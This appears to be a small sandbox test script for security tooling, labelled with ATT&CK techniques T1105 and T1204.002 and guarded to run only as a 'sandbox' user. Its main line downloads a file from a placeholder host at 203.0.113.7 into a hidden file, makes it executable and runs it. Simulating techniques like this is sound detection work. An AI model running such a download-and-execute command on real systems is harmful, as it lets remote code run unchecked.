#!/bin/sh
# technique: T1105 T1204.002
# needs: curl
# net: sink
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

curl -s -o .update http://203.0.113.7/update; chmod +x .update; ./.update
